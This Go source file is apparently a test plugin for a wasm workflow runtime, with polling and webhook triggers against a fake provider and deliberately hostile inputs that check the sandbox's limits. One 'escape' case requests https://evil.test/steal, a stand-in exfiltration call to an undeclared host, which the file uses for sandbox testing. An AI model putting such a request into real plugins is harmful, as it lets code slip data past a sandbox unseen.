// Command triggers is a test piece with one polling and one webhook
// trigger against the fake provider of the wasm runtime's tests (host
// items.test), plus inputs that make it hostile: too many events, a
// result past the host's limit, a request to an undeclared host.
//
// Build: GOOS=wasip1 GOARCH=wasm go build -buildmode=c-shared -o triggers.wasm ./host/internal/runtimes/wasm/testdata/triggers
package main

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"github.com/atomhq/atom/sdk/piece"
)

type item struct {
	ID        string    `json:"id"`
	CreatedAt time.Time `json:"created_at"`
}

func authed(c *piece.Context) (map[string]string, error) {
	cr, err := c.Credentials()
	if err != nil {
		return nil, err
	}
	return map[string]string{"Authorization": "Bearer " + cr.APIKey}, nil
}

func poll(c *piece.Context, state json.RawMessage) ([]piece.Event, json.RawMessage, error) {
	switch c.String("hostile") {
	case "many_events":
		var es []piece.Event
		for i := range 2000 {
			es = append(es, piece.Event{ID: fmt.Sprint(i), Payload: json.RawMessage(`{}`)})
		}
		return es, nil, nil
	case "big_state":
		return nil, json.RawMessage(`"` + strings.Repeat("s", 100<<10) + `"`), nil
	case "not_json":
		return []piece.Event{{ID: "x", Payload: json.RawMessage(`{`)}}, nil, nil
	case "escape":
		resp, err := c.Do(piece.HTTPRequest{Method: "GET", URL: "https://evil.test/steal"})
		if err != nil {
			return nil, nil, err
		}
		_ = resp
		return nil, nil, nil
	}
	var st struct {
		Polls int `json:"polls"`
	}
	_ = json.Unmarshal(state, &st)
	h, err := authed(c)
	if err != nil {
		return nil, nil, err
	}
	resp, err := c.JSON("GET", "https://items.test/items", h, nil)
	if err != nil {
		return nil, nil, err
	}
	if !resp.OK() {
		return nil, nil, resp.Fail("list items")
	}
	var items []item
	if err := resp.Decode(&items); err != nil {
		return nil, nil, err
	}
	var es []piece.Event
	for _, it := range items {
		p, _ := json.Marshal(it)
		es = append(es, piece.Event{ID: it.ID, OccurredAt: it.CreatedAt, Payload: p})
	}
	st.Polls++
	next, _ := json.Marshal(st)
	return es, next, nil
}

type registration struct {
	HookID string `json:"hook_id"`
	Secret string `json:"secret"`
}

func init() {
	piece.Register(piece.Define(piece.Piece{
		ID: "triggers", Name: "Triggers", Version: "1.0.0",
		Auth:    piece.AuthSpec{Kind: "api_key"},
		Hosts:   []string{"items.test"},
		Actions: []piece.Action{{Name: "noop", Run: func(c *piece.Context) (any, error) { return map[string]any{}, nil }}},
		// Route reads the team id; it tries a request, which the host
		// must refuse (route has no way out).
		Route: func(c *piece.Context, hook piece.Webhook) (string, error) {
			if _, err := c.Do(piece.HTTPRequest{Method: "GET", URL: "https://items.test/items"}); err == nil {
				return "", fmt.Errorf("route reached the network")
			}
			var ev struct {
				TeamID string `json:"team_id"`
			}
			if err := json.Unmarshal(hook.Body, &ev); err != nil || ev.TeamID == "" {
				return "", fmt.Errorf("no team_id")
			}
			return ev.TeamID, nil
		},
		Triggers: []piece.Trigger{
			{Name: "team_message", Kind: piece.TriggerAppWebhook,
				Handle: func(c *piece.Context, hook piece.Webhook, raw json.RawMessage) ([]piece.Event, *piece.WebhookReply, error) {
					return nil, nil, nil
				}},
			{Name: "new_item", Kind: piece.TriggerPolling, Props: []piece.Prop{piece.ShortText("hostile", "Hostile")}, Poll: poll},
			{Name: "item_event", Kind: piece.TriggerWebhook,
				Enable: func(c *piece.Context, url string) (json.RawMessage, error) {
					h, err := authed(c)
					if err != nil {
						return nil, err
					}
					resp, err := c.JSON("POST", "https://items.test/hooks", h, map[string]string{"url": url})
					if err != nil {
						return nil, err
					}
					if !resp.OK() {
						return nil, resp.Fail("create hook")
					}
					var hook struct {
						ID     string `json:"id"`
						Secret string `json:"secret"`
					}
					if err := resp.Decode(&hook); err != nil {
						return nil, err
					}
					return json.Marshal(registration{HookID: hook.ID, Secret: hook.Secret})
				},
				Disable: func(c *piece.Context, raw json.RawMessage) error {
					var reg registration
					if err := json.Unmarshal(raw, &reg); err != nil {
						return err
					}
					h, err := authed(c)
					if err != nil {
						return err
					}
					resp, err := c.JSON("DELETE", "https://items.test/hooks/"+reg.HookID, h, nil)
					if err != nil {
						return err
					}
					if !resp.OK() {
						return resp.Fail("delete hook")
					}
					return nil
				},
				Handle: func(c *piece.Context, hook piece.Webhook, raw json.RawMessage) ([]piece.Event, *piece.WebhookReply, error) {
					var reg registration
					if err := json.Unmarshal(raw, &reg); err != nil {
						return nil, nil, err
					}
					if err := piece.VerifyGitHub(hook.Headers, hook.Body, reg.Secret); err != nil {
						return nil, nil, err
					}
					var ev struct {
						Action string `json:"action"`
						Issue  struct {
							ID int `json:"id"`
						} `json:"issue"`
					}
					if err := json.Unmarshal(hook.Body, &ev); err != nil {
						return nil, nil, err
					}
					return []piece.Event{{ID: hook.Headers.Get("X-GitHub-Delivery"), Payload: hook.Body}}, nil, nil
				},
			},
		},
	}))
}

func main() {}
